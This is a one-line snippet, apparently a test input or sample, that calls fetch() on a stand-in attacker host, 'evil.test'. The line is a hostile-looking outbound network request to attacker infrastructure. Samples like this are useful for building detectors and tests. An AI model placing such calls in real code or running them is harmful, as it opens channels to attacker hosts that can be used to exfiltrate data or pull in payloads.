fetch("http://evil.test")
